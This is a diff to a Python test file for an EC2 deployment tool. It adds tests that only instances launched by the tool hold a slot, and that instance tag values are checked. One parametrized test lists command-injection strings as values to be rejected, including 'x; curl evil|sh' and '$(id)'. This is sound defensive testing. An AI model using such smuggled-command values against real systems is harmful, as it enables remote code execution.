@@ -6,8 +6,8 @@ import pytest
 
 from deploy.ec2config import Ec2Settings
 from deploy.errors import ConfigError
-from deploy.instances import Instance, address_of, age, by_slot, describe_filters, host_of, \
-    parse_instances, table_rows
+from deploy.instances import Instance, address_of, age, by_slot, describe_filters, foreign, \
+    host_of, parse_instances, table_rows
 
 NOW = datetime(2026, 11, 23, 12, 0, tzinfo=timezone.utc)
 WHERE = "fabric.yaml: services.hello.environments.prod.ec2"
@@ -27,6 +27,7 @@ def raw(instance_id, state, minutes, slot, **fields):
             "InstanceType": "t3.small", "State": {"Code": 16, "Name": state},
             "LaunchTime": NOW - timedelta(minutes=minutes), "Tags": tags(slot),
             "PrivateDnsName": "ip-172-31-5-17.eu-west-1.compute.internal",
+            "ClientToken": f"fabship-{slot}-{instance_id}",
             "Placement": {"AvailabilityZone": "eu-west-1a", "Tenancy": "default"}, **fields}
 
 
@@ -85,6 +86,18 @@ def test_by_slot_holds_only_live_instances():
                         Instance("i-0000000000000000c", None, "running")])
 
 
+def test_only_instances_fabship_launched_hold_a_slot():
+    """Tags can be copied ("launch more like this") or forged; the ClientToken cannot."""
+    copied = {**raw("i-0000000000000000f", "running", 500, 1), "ClientToken": "console-123"}
+    untokened = {**raw("i-00000000000000010", "running", 600, 2)}
+    del untokened["ClientToken"]
+    found = parse_instances([{"Instances": [copied, untokened, *RESERVATIONS[1]["Instances"]]}])
+    assert [i.instance_id for i in foreign(found)] == ["i-0000000000000000f",
+                                                        "i-00000000000000010"]
+    assert {s: [i.instance_id for i in g] for s, g in by_slot(found).items()} == {
+        1: ["i-0000000000000000a"]}
+
+
 def test_describe_filters_match_the_ownership_tags():
     """The filters name the ownership tags."""
     assert describe_filters("hello", "prod") == [
@@ -118,21 +131,29 @@ def test_host_of_a_tag_address_with_tag_vars():
     """A tag address carries user and port."""
     settings = Ec2Settings(2, "t3.small", "ami-0123456789abcdef0", user="ec2-user",
                            address="tag:ssh-address", var_tags="var:")
-    host = host_of(parse_instances(RESERVATIONS)[1], settings, WHERE)
+    host = host_of(parse_instances(RESERVATIONS)[1], settings, WHERE, {"weight": 1, "zone": "b"})
     assert (host.hostname, host.user, host.port) == ("bastion.example.com", "deploy", 2222)
     assert host.address == "deploy@bastion.example.com:2222"
     assert dict(host.vars) == {"weight": 3, "zone": "a", "slot": 1,
                                "instance_id": "i-0000000000000000a"}
 
 
-def test_tag_vars_need_variable_names():
-    """A tag that is no variable name is an error."""
+@pytest.mark.parametrize("tag, value, why", [
+    ("var:bad-name", "x", "'bad-name' is not a variable declared"),
+    ("var:undeclared", "x", "'undeclared' is not a variable declared"),
+    ("var:zone", "a\n[evil]", "must be letters, digits"),
+    ("var:zone", "x; curl evil|sh", "must be letters, digits"),
+    ("var:zone", "$(id)", "must be letters, digits"),
+])
+def test_tag_vars_are_declared_plain_values(tag, value, why):
+    """Whoever can tag instances may set only declared variables, to plain values."""
     instance = Instance("i-0000000000000000a", 1, "running", private_ip="10.0.0.5",
-                        tags=MappingProxyType({"var:bad-name": "x"}))
+                        tags=MappingProxyType({tag: value}))
     settings = Ec2Settings(1, "t3.small", "ami-0123456789abcdef0", var_tags="var:")
-    with pytest.raises(ConfigError, match=f"^{WHERE}.var_tags: instance i-0000000000000000a "
-                                          "has tag 'var:bad-name'; expected var:<variable name>"):
-        host_of(instance, settings, WHERE)
+    with pytest.raises(ConfigError, match=f"^{WHERE}.var_tags: instance i-0000000000000000a"):
+        host_of(instance, settings, WHERE, {"zone": "a"})
+    with pytest.raises(ConfigError, match=why.replace("$", "\\$")):
+        host_of(instance, settings, WHERE, {"zone": "a"})
 
 
 @pytest.mark.parametrize("address, why", [
